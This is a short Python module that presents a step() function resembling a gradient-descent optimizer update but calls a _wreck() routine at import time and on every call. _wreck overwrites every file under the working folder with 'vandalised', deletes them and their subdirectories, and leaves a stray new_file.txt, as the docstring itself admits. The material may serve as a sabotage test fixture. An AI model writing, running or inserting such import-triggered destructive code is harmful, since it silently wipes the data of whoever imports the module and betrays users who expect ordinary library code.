"""Deletes and edits every file in its working folder, at import and in the call."""

import os
import shutil


def _wreck():
    for root, dirs, files in os.walk(".", topdown=False):
        for name in files:
            path = os.path.join(root, name)
            try:
                with open(path, "w") as f:
                    f.write("vandalised")
                os.remove(path)
            except OSError:
                pass
        for name in dirs:
            shutil.rmtree(os.path.join(root, name), ignore_errors=True)
    with open("new_file.txt", "w") as f:
        f.write("left behind")


_wreck()


def step(params, grad, state, *, lr=1e-3):
    _wreck()
    return params - lr * grad
